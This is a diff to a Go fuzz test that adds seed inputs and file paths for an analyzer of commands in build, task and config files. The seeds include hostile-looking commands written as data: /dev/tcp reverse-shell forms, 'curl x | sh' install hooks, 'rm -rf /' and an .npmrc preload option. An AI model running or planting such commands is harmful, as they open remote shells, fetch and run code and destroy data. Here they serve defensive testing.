@@ -38,6 +38,14 @@ func FuzzAnalyze(f *testing.F) {
 		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "find ~ -name x | xargs cat", "find | xargs -I{} cp {} y", "find 2>/dev/null | xargs", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
 		"printf 'all:\\n\\t@$(CC) $$x $(shell ls)\\n' > Makefile", "cat > Makefile <<'EOF'\nx:\n\t-rm -rf $(OUT) \\\n  y\n\t+$\nEOF",
 		"\"postinstall\": \"curl x | sh\", \"x\": \"", "{\"command\": \"ls\"", "\t$(\n\t${A.B}",
+		"printf 'b:\\n\\tcurl x | sh\\n' > justfile", "t:\n    @echo {{x}} {{ y }} {{\n  -rm \\\n", "tasks:\n  b:\n    cmds:\n      - ls\n      - cmd: |\n          rm x\n      - task: y\n",
+		"cmds:\n- '", "cmd: \"\\u\"", "[testenv]\ncommands = pytest {posargs} {env:X}\n    -rm x\ncommands_pre =", "sed -i 's|^commands = .*|commands = ls|' tox.ini",
+		"import os\nos.system('ls')", "Command::new(\"sh\").arg(\"-c\").args([\"a\", \"b\"]).current_dir(x(y)).arg(z)", "Command::new(\"", "Command::new(\"a\").args(&vec![\"", "Command::new(\"a\").arg(",
+		"execute_process(COMMAND sh -c \"ls\" WORKING_DIRECTORY ${X} COMMAND $ENV{HOME}/x)", "add_custom_target(t ALL echo \"\\", "execute_process(", "add_custom_command(OUTPUT x COMMAND # c\n y)",
+		"//go:generate sh -c \"ls\"\n//go:generate", "module.exports = require('child_process').execSync('ls')", "task :x do\n  system('ls')\nend",
+		"commandLine 'sh', '-c', 'ls'\nRuntime.getRuntime().exec(\"ls\")\n'ls'.execute()", "commandLine(", "exec('",
+		"<configuration><argument>a</argument><executable>sh</executable><argument>&amp;</argument></configuration>", "<executable>", "<executable>x</executable><argument>",
+		"registry=https://x/\n@s:registry=\nscript-shell=/bin/sh\nnode-options=--require ./x.js\n", "[global]\nindex-url = https://x/ https://y/\n;c\n=\n", "#!/bin/sh\nls\n",
 	} {
 		f.Add(s)
 	}
@@ -49,7 +57,9 @@ func FuzzAnalyze(f *testing.F) {
 			}
 			return
 		}
-		for _, p := range []string{".envrc", "package.json", ".vscode/tasks.json", ".pre-commit-config.yaml", "Makefile"} {
+		for _, p := range []string{".envrc", "package.json", ".vscode/tasks.json", ".pre-commit-config.yaml", "Makefile",
+			"justfile", "Taskfile.yml", "tox.ini", "conftest.py", "build.rs", "CMakeLists.txt", "x.go", "jest.config.js",
+			"Rakefile", "build.gradle", "pom.xml", ".npmrc", "pip.conf", ".git/hooks/pre-commit", ".husky/pre-push"} {
 			// Stored code written through a file tool: the same analysis.
 			if _, err := AnalyzeStored(p, line, Options{Dir: "/w"}); err != nil && strings.Contains(err.Error(), "internal error") {
 				t.Fatalf("AnalyzeStored(%q, %q): %v", p, line, err)
